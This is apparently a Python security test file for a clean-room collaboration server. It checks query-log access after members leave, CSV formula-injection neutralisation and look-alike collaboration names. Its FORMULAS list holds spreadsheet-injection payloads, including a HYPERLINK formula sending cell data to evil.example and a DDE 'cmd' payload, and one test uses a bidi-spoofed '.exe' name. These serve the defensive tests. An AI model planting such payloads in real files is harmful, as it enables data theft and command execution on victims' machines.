"""Issue 12, items 9, 11 and 13, as a hostile member tries them through boto3 against a real
server: reading the query log after leaving, being removed or the collaboration's deletion;
spreadsheet formulas in a dimension others download as CSV; and collaborations dressed up as an
AMC instance's (reserved names, platform account names, bidi controls)."""
import csv
import io
import os
import time

import botocore.exceptions

from harness import ServerTestCase

A, B, C = "311111111111", "322222222222", "333333333333"
TERMINAL = {"SUCCESS", "FAILED", "CANCELLED", "TIMED_OUT"}
QUERY = "SELECT segment, COUNT(DISTINCT email) AS users, SUM(spend) AS total FROM customers GROUP BY segment"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"x")', "=IMPORTDATA(\"http://evil.example\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


class HostileMembersTest(ServerTestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.creds = {a: cls.server.new_account(a, "Account " + a) for a in (A, B, C)}
        cls.cr = {a: cls.server.cleanrooms(c) for a, c in cls.creds.items()}
        cls.server.new_bucket(A, "a-results")  # buckets have owners (docs/operations.md)
        # Two customers per segment (the minimum); the segments are what a hostile party writes.
        rows = ["email,segment,spend"]
        for i, s in enumerate(FORMULAS + ["gold"]):
            quoted = '"' + s.replace('"', '""') + '"'
            rows += [f"c{i}a@example.com,{quoted},-{i + 1}", f"c{i}b@example.com,{quoted},-{i + 1}"]
        cls.server.upload_csv(A, "sales.customers", "\n".join(rows) + "\n", "email:email")
        cls.table = cls.cr[A].create_configured_table(
            name="customers", tableReference={"glue": {"databaseName": "sales", "tableName": "customers"}},
            allowedColumns=["email", "segment", "spend"], analysisMethod="DIRECT_QUERY")["configuredTable"]["id"]
        cls.cr[A].create_configured_table_analysis_rule(
            configuredTableIdentifier=cls.table, analysisRuleType="AGGREGATION",
            analysisRulePolicy={"v1": {"aggregation": {
                "aggregateColumns": [{"columnNames": ["email"], "function": "COUNT_DISTINCT"},
                                     {"columnNames": ["spend"], "function": "SUM"}],
                "joinColumns": ["email"], "dimensionColumns": ["segment"], "scalarFunctions": [],
                "outputConstraints": [{"columnName": "email", "minimum": 2, "type": "COUNT_DISTINCT"}]}}})

    def collaboration(self, name, members=(B, C)):
        """A's collaboration with the query log on, every member joined, A's table in it."""
        c = self.cr[A].create_collaboration(
            name=name, description="d", creatorDisplayName="A", queryLogStatus="ENABLED",
            creatorMemberAbilities=["CAN_QUERY", "CAN_RECEIVE_RESULTS"],
            members=[{"accountId": m, "memberAbilities": [], "displayName": "M" + m[-1]} for m in members]
        )["collaboration"]["id"]
        ms = {A: self.cr[A].create_membership(
            collaborationIdentifier=c, queryLogStatus="ENABLED",
            defaultResultConfiguration={"outputConfiguration": {"s3": {
                "bucket": "a-results", "keyPrefix": name, "resultFormat": "CSV"}}})["membership"]["id"]}
        for m in members:
            ms[m] = self.cr[m].create_membership(collaborationIdentifier=c,
                                                 queryLogStatus="ENABLED")["membership"]["id"]
        self.cr[A].create_configured_table_association(
            membershipIdentifier=ms[A], configuredTableIdentifier=self.table, name="customers",
            roleArn=f"arn:aws:iam::{A}:role/cleanrooms")
        return c, ms

    def run_query(self, membership):
        q = self.cr[A].start_protected_query(type="SQL", membershipIdentifier=membership,
                                             sqlParameters={"queryString": QUERY})["protectedQuery"]
        deadline = time.time() + 60
        while q["status"] not in TERMINAL and time.time() < deadline:
            time.sleep(0.05)
            q = self.cr[A].get_protected_query(membershipIdentifier=membership,
                                               protectedQueryIdentifier=q["id"])["protectedQuery"]
        self.assertEqual(q["status"], "SUCCESS", q.get("error"))
        return q

    def refused(self, call, **kwargs):
        with self.assertRaises(botocore.exceptions.ClientError) as cm:
            call(**kwargs)
        return cm.exception.response

    def assert_log_closed(self, account, membership, query_id):
        for call, kwargs in [(self.cr[account].get_protected_query,
                              {"membershipIdentifier": membership, "protectedQueryIdentifier": query_id}),
                             (self.cr[account].list_protected_queries, {"membershipIdentifier": membership})]:
            r = self.refused(call, **kwargs)
            self.assertEqual(r["Error"]["Code"], "AccessDeniedException", r)
            self.assertIn("only active members read its queries and results", r["Error"]["Message"])

    # --- item 9: only active members read the query log ------------------------------------
    def test_a_member_that_left_reads_nothing_more(self):
        c, ms = self.collaboration("left")
        before = self.run_query(ms[A])
        seen = self.cr[B].get_protected_query(membershipIdentifier=ms[B], protectedQueryIdentifier=before["id"])
        self.assertEqual(seen["protectedQuery"]["sqlParameters"]["queryString"], QUERY)
        self.cr[B].delete_membership(membershipIdentifier=ms[B])
        after = self.run_query(ms[A])
        for q in (before, after):
            self.assert_log_closed(B, ms[B], q["id"])
        # The members that stayed still read it.
        listed = self.cr[C].list_protected_queries(membershipIdentifier=ms[C])["protectedQueries"]
        self.assertEqual({q["id"] for q in listed}, {before["id"], after["id"]})

    def test_a_removed_member_reads_nothing_more(self):
        c, ms = self.collaboration("removed")
        q = self.run_query(ms[A])
        self.cr[A].delete_member(collaborationIdentifier=c, accountId=C)
        self.assert_log_closed(C, ms[C], q["id"])

    def test_after_the_collaboration_is_deleted_nobody_reads_its_log(self):
        c, ms = self.collaboration("deleted")
        q = self.run_query(ms[A])
        self.cr[A].delete_collaboration(collaborationIdentifier=c)
        for account in (A, B, C):
            self.assert_log_closed(account, ms[account], q["id"])

    # --- item 11: CSV formula injection ------------------------------------------------------
    def test_formulas_in_a_dimension_reach_the_csv_as_text_and_numbers_stay_numbers(self):
        c, ms = self.collaboration("formulas", members=())
        q = self.run_query(ms[A])
        location = q["result"]["output"]["s3"]["location"]
        with open(os.path.join(self.server.data_dir, "buckets", location[5:]), newline="") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[0], ["segment", "users", "total"])
        by_segment = {r[0]: r for r in rows[1:]}
        self.assertEqual(set(by_segment), {"'" + s for s in FORMULAS} | {"gold"})
        for i, s in enumerate(FORMULAS + ["gold"]):
            row = by_segment[s if s == "gold" else "'" + s]
            self.assertEqual(row[1:], ["2", str(-2 * (i + 1))], row)  # negative sums are not quoted

    def test_column_names_the_analyst_chooses_are_neutralised_too(self):
        c, ms = self.collaboration("header", members=())
        sql = ('SELECT segment AS "=1+2", COUNT(DISTINCT email) AS "@users" FROM customers '
               "GROUP BY segment")
        q = self.cr[A].start_protected_query(type="SQL", membershipIdentifier=ms[A],
                                             sqlParameters={"queryString": sql})["protectedQuery"]
        deadline = time.time() + 60
        while q["status"] not in TERMINAL and time.time() < deadline:
            time.sleep(0.05)
            q = self.cr[A].get_protected_query(membershipIdentifier=ms[A],
                                               protectedQueryIdentifier=q["id"])["protectedQuery"]
        self.assertEqual(q["status"], "SUCCESS", q.get("error"))
        with open(os.path.join(self.server.data_dir, "buckets", q["result"]["output"]["s3"]["location"][5:]),
                  newline="") as f:
            self.assertEqual(next(csv.reader(f)), ["'=1+2", "'@users"])

    # --- item 13: look-alike collaborations ----------------------------------------------------
    def create(self, account=B, name="partners", creator="Partner", members=None):
        return self.cr[account].create_collaboration(
            name=name, description="AMC Clean Room collaboration for instance amcabcdefgh",
            creatorDisplayName=creator, creatorMemberAbilities=[], queryLogStatus="ENABLED",
            members=members if members is not None else
            [{"accountId": A, "memberAbilities": ["CAN_RECEIVE_RESULTS"], "displayName": "Advertiser A"}])

    def assert_validation(self, fragment, **kwargs):
        r = self.refused(self.create, **kwargs)
        self.assertEqual(r["Error"]["Code"], "ValidationException", r)
        self.assertIn(fragment, r["Error"]["Message"])

    def test_names_of_amc_instances_are_reserved(self):
        for name in ["AMC amcabcdefgh", "amc amcabcdefgh", "AMC\tamcabcdefgh", " AMC x",
                     "\u200bAMC amcabcdefgh", "A\u200dMC amcabcdefgh", "AMC\u00a0amcabcdefgh",
                     "\u0410\u041c\u0421 amcabcdefgh",  # Cyrillic А, М, С
                     "\uff21\uff2d\uff23 amcabcdefgh"]:  # fullwidth
            self.assert_validation("reserved for the collaborations of AMC instances", name=name)
        for name in ["AMCamcabcdefgh", "My AMC amcabcdefgh", "Camc x", "AMC"]:
            self.assertEqual(self.create(name=name)["collaboration"]["name"], name)

    def test_platform_account_names_are_reserved(self):
        self.assert_validation("name of a platform service account", creator="AMC service")
        self.assert_validation("name of a platform service account", creator="amc  SERVICE\u200b")
        self.assert_validation("members[1].displayName", members=[
            {"accountId": A, "memberAbilities": [], "displayName": "Advertiser A"},
            {"accountId": C, "memberAbilities": [], "displayName": "Query Submitter"}])

    def test_bidi_controls_are_refused_in_names(self):
        for ch in ["\u202e", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]:
            self.assert_validation("bidi control character", name="partners " + ch + "hgfedcba")
        self.assert_validation("bidi control character", creator="Partner\u202e")
        # Right-to-left letters themselves are a name like any other.
        self.assertEqual(self.create(name="\u05e9\u05dc\u05d5\u05dd")["collaboration"]["name"],
                         "\u05e9\u05dc\u05d5\u05dd")

    def test_renaming_to_a_reserved_name_is_refused(self):
        c = self.create(name="to rename")["collaboration"]["id"]
        for name in ["AMC amcabcdefgh", "x\u202egnp.exe"]:
            r = self.refused(self.cr[B].update_collaboration, collaborationIdentifier=c, name=name)
            self.assertEqual(r["Error"]["Code"], "ValidationException", r)
        self.assertEqual(self.cr[B].update_collaboration(collaborationIdentifier=c, name="renamed")
                         ["collaboration"]["name"], "renamed")

    def test_the_platform_keeps_naming_instance_collaborations(self):
        # An instance's collaboration is still called "AMC <instanceId>" (the reserved name is the
        # platform's), and its service may change its description without renaming it.
        from harness import advertiser_setup
        _, user = advertiser_setup(self.server, account_id="344444444444")
        status, body, _ = user.create_instance({"instanceName": "reserved_ok", "awsAccountId": "344444444444",
                                                "acrBacked": True})
        self.assertEqual(status, 200, body)
        instance = body["instance"]
        self.assertEqual(instance["acrCollaboration"]["name"], "AMC " + instance["instanceId"])
